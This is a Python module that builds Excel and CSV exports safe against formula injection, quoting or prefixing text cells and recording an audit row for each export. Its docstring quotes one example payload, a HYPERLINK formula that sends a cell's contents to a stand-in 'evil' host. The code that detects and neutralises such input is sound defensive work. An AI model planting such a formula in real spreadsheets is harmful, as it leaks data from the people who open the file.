"""Excel and CSV files of a table, safe to open in a spreadsheet, audited as they are built.

Text in these files was typed by people (a member's employer, a username tried at the
sign-in form), so a cell such as ``=HYPERLINK("http://evil?x="&E2,"click")`` must never
become a live formula (CSV/formula injection, OWASP). Every text cell is written as text:

- Excel: each text cell is written with ``write_string`` (never ``write``, which would
  guess a formula, a URL or a number) in a workbook that also switches those guesses off.
  Text starting with a formula trigger additionally gets Excel's *quote prefix* cell
  format: the cell shows the text exactly as typed, is marked as text, and stays text
  even when someone edits it and presses Enter.
- CSV: there is no cell format in CSV, so text starting with a formula trigger gets a
  leading ``'`` (what Excel itself uses to mean "this is text"); all text is quoted, so a
  delimiter inside a value cannot start a new cell in a locale that splits on ``;``.

Numbers, dates and blanks are not text and are written as such: a negative amount stays a
number. Excel holds at most 32,767 characters per cell; longer text is cut and ends with a
marker, so the reader knows the cell is incomplete (CSV keeps it whole).
"""

import csv
import io
import math
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import date, datetime
from enum import StrEnum
from numbers import Number

import numpy as np
import pandas as pd
import xlsxwriter
from sqlalchemy.engine import Engine
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

from core.clock import to_office_time
from core.db import write_session
from services.actors import Actor
from services.audit import record_export

# OWASP's list: a spreadsheet starts a formula at these, and tab / carriage return may be
# dropped on import, uncovering a trigger behind them.
# OWASP's list, NUL (ASVS 1.2.10), and the full-width signs a Chinese input method types.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
EXCEL_CELL_LIMIT = 32_767  # characters (UTF-16 code units) in one cell
SHEET_NAME = "Liaison"
COLUMN_WIDTH = 18
DATE_FORMAT = "yyyy-mm-dd"
MINUTE_FORMAT = "yyyy-mm-dd hh:mm"


class FileFormat(StrEnum):
    XLSX = "xlsx"
    CSV = "csv"
    DOCX = "docx"  # one record as a Word document (the visit registration form)
    PDF = "pdf"  # the meeting's slides, a page each
    ZIP = "zip"  # the meeting's slides as PNG images


TABLE_FORMATS = (FileFormat.XLSX, FileFormat.CSV)
MIME_TYPES = {
    FileFormat.XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    FileFormat.CSV: "text/csv",
    FileFormat.DOCX: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    FileFormat.PDF: "application/pdf",
    FileFormat.ZIP: "application/zip",
}


@dataclass(frozen=True)
class ExportWords:
    """Words the file shows, in the reader's language: yes/no cells and the end of a cell
    cut at Excel's limit."""

    yes: str
    no: str
    truncated: str


def export_table(
    *,
    engine: Engine,
    actor: Actor,
    table: pd.DataFrame,
    labels: dict[str, str],
    words: ExportWords,
    what: str,
    file_format: FileFormat,
) -> bytes:
    """The file of ``table``'s ``labels`` columns (in that order, headed by the labels),
    and its audit row: exports carry personal data out of the app, so the row is written
    exactly when a file is made. The file is built before the short write transaction:
    on SQLite that transaction holds the store's only write lock."""
    return audited_file(engine=engine, actor=actor, what=what, rows=len(table),
                        file_format=file_format,
                        content=table_file(table, labels, words, file_format))


def audited_file(*, engine: Engine, actor: Actor, what: str, rows: int,
                 file_format: FileFormat, content: bytes) -> bytes:
    """``content``, once its audit row is written: every file the app hands out (a list,
    an import template) is recorded when it is made."""
    with write_session(engine) as session:
        record_export(session=session, actor=actor, what=what, rows=rows,
                      file_format=file_format.value)
    return content


def table_file(table: pd.DataFrame, labels: dict[str, str], words: ExportWords,
               file_format: FileFormat) -> bytes:
    """The file's bytes alone, not audited (``export_table`` is the audited way)."""
    columns = [column for column in labels if column in table.columns]
    header = [labels[column] for column in columns]
    rows = (
        [_cell(value, words) for value in row]
        for row in table[columns].itertuples(index=False, name=None)
    )
    if file_format is FileFormat.XLSX:
        return to_xlsx(header, rows, truncated=words.truncated)
    return to_csv(header, rows)


Cell = str | int | float | date | None


def _cell(value: object, words: ExportWords) -> Cell:
    """One value as a spreadsheet sees it: text, a number, a date (office time) or blank."""
    if value is None or value is pd.NaT or value is pd.NA:
        return None
    if isinstance(value, bool | np.bool_):
        return words.yes if value else words.no
    if isinstance(value, datetime):  # before date: a datetime is a date
        moment = to_office_time(pd.Timestamp(value).to_pydatetime())
        return moment.replace(tzinfo=None, second=0, microsecond=0)
    if isinstance(value, date):
        return value
    if isinstance(value, int | np.integer):
        return int(value)
    if isinstance(value, Number):
        number = float(value)
        if math.isnan(number):
            return None
        if math.isinf(number):
            return str(number)  # Excel has no infinity
        # 12.0 (a whole number from a column with blanks) reads as 12, as on the screen
        return int(number) if number.is_integer() and abs(number) < 2**53 else number
    return str(value)


def starts_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def csv_text(text: str) -> str:
    """Text for a CSV cell: a leading ``'`` makes a would-be formula plain text."""
    return f"'{text}" if starts_a_formula(text) else text


def to_csv(header: list[str], rows: Iterable[list[Cell]]) -> bytes:
    """UTF-8 with a BOM, so Excel reads the Chinese; text quoted, numbers bare."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([csv_text(label) for label in header])
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def _csv_value(value: Cell) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, str):
        return csv_text(value)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return value


def to_xlsx(header: list[str], rows: Iterable[list[Cell]], *,
            truncated: str) -> bytes:
    """One sheet, a bold header that stays in view (frozen), columns 18 wide; every text
    cell written as text."""
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {
        "in_memory": True,
        # Defence in depth: write_string below never guesses, and neither may write().
        "strings_to_formulas": False,
        "strings_to_urls": False,
        "strings_to_numbers": False,
    })
    sheet = workbook.add_worksheet(SHEET_NAME)
    bold = workbook.add_format({"bold": True})
    writers = _ExcelWriters(
        sheet=sheet,
        quoted=workbook.add_format({"quote_prefix": True}),
        day=workbook.add_format({"num_format": DATE_FORMAT}),
        minute=workbook.add_format({"num_format": MINUTE_FORMAT}),
        truncated=truncated,
    )
    for column, label in enumerate(header):
        writers.text(0, column, label, bold)
    for row_number, row in enumerate(rows, start=1):
        for column, value in enumerate(row):
            writers.value(row_number, column, value)
    sheet.set_column(0, max(len(header) - 1, 0), COLUMN_WIDTH)
    sheet.freeze_panes(1, 0)
    workbook.close()
    return buffer.getvalue()


@dataclass
class _ExcelWriters:
    sheet: Worksheet
    quoted: Format
    day: Format
    minute: Format
    truncated: str

    def value(self, row: int, column: int, value: Cell) -> None:
        if value is None:
            return  # a blank cell
        if isinstance(value, str):
            self.text(row, column, value)
        elif isinstance(value, date):  # a datetime is a date too
            cell_format = self.minute if isinstance(value, datetime) else self.day
            self.sheet.write_datetime(row, column, value, cell_format)
        else:
            self.sheet.write_number(row, column, value)

    def text(self, row: int, column: int, text: str, cell_format: Format | None = None) -> None:
        write_excel_text(self.sheet, row, column, fit_excel_cell(text, self.truncated),
                         cell_format=cell_format, quoted=self.quoted)


def write_excel_text(sheet: Worksheet, row: int, column: int, text: str, *,
                     cell_format: Format | None, quoted: Format) -> None:
    """A text cell that Excel never reads as a formula: one that would start one gets the
    quote prefix (``quoted``) instead of ``cell_format``."""
    sheet.write_string(row, column, text, quoted if starts_a_formula(text) else cell_format)


def fit_excel_cell(text: str, marker: str) -> str:
    """``text`` cut to Excel's cell limit, ending with ``marker`` when cut. Excel counts
    UTF-16 code units (𠮷 is two), and a cut never splits such a character."""
    if _utf16_length(text) <= EXCEL_CELL_LIMIT:
        return text
    room = EXCEL_CELL_LIMIT - _utf16_length(marker)
    kept = used = 0
    for character in text:
        used += _utf16_length(character)
        if used > room:
            break
        kept += 1
    return text[:kept] + marker


def _utf16_length(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2
